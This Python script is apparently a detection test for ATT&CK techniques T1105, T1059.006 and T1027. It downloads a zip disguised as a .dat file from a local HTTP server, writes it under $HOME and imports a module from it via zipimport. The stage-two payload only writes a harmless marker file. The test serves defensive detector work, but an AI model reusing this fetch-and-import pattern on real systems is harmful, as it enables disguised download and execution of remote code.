# technique: T1105 T1059.006 T1027
"""Downloaded zip archive imported from with zipimport (T1105, T1059.006, T1027).

The stage arrives as a zip archive (built in memory by our server side)
with a misleading .dat suffix; the script writes it under $HOME, puts it
on sys.path and imports the module inside. The code is compressed on disk
and in transit, and is read by zipimport, not by the open-code path of a
.py file.

A good detector raises a high alert: a module is imported from a zip file
that was just written from a network download.
"""
import http.server
import importlib
import io
import os
import sys
import threading
import urllib.request
import zipfile

def serve(files):
    """Our own HTTP server on 127.0.0.1 (port 0) in a thread, serving {path: bytes}."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = files.get(self.path)
            if body is None:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return "http://127.0.0.1:%d" % server.server_address[1], server

archive = io.BytesIO()
with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
    zf.writestr("locale_helper.py", "import os\nmarker = os.path.join(os.path.expanduser('~'), '.stage2')\nwith open(marker, 'w') as f:\n    f.write(str(os.getpid()))\nprint('stage two ran in', os.getpid())\n")
base, server = serve({"/assets/locale.dat": archive.getvalue()})
path = os.path.join(os.path.expanduser("~"), ".locale.dat")
with open(path, "wb") as f:
    f.write(urllib.request.urlopen(base + "/assets/locale.dat", timeout=5).read())
sys.path.insert(0, path)
importlib.import_module("locale_helper")
sys.path.remove(path)
os.unlink(path)
server.shutdown()
